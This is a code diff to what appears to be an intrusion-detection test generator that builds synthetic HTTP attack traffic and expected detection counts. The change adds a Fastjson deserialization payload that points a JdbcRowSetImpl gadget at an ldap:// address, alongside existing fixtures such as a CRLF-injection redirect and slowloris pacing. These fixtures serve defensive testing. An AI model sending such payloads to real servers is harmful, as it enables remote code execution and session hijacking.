@@ -208,6 +208,9 @@ def http_attacks() -> tuple[Packets, Any, dict[str, int]]:
     out += http_exchange([http(b"POST", b"/api/webhooks", [b"Content-Type: application/json"], hook)], 40011)
     # crlf_injection: a redirect's target that splits the response to set a cookie
     out += http_exchange([http(b"GET", b"/redirect?to=%2F%0D%0ASet-Cookie:%20sid=fixed", [])], 40012)
+    # java_deserialization: Fastjson asked for a JNDI-looking-up class (marshalsec's payload)
+    typed = b'{"a": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://198.18.0.9/x"}}'
+    out += http_exchange([http(b"POST", b"/api/orders", [b"Content-Type: application/json"], typed)], 40013)
     slow: Packets = []
     conv = Tcp(slow, T0 + 1, C, 40007, S, 80).handshake()
     conv.send(0, b"GET / HTTP/1.1\r\nHost: shop.example\r\n").wait(15).send(0, b"X-a: 1\r\n").wait(15)
@@ -216,7 +219,8 @@ def http_attacks() -> tuple[Packets, Any, dict[str, int]]:
     out.sort(key=lambda p: p[0])
     return out, None, {"sql_injection": 2, "xss": 1, "struts_rce": 1, "http_smuggling": 1,
                        "http_negative_length": 1, "http_slowloris": 1, "log4shell": 1,
-                       "path_traversal": 1, "xxe": 1, "ssrf": 1, "crlf_injection": 1}  # fmt: skip
+                       "path_traversal": 1, "xxe": 1, "ssrf": 1, "crlf_injection": 1,
+                       "java_deserialization": 1}  # fmt: skip
 
 
 TUNNEL_NAME = "p2mwsg3l5a4i7bpnjvwygm4k3lh7yyk6dqjgyvlhjhtoo5sbbc3qabgn6s6etx.t.example.com"
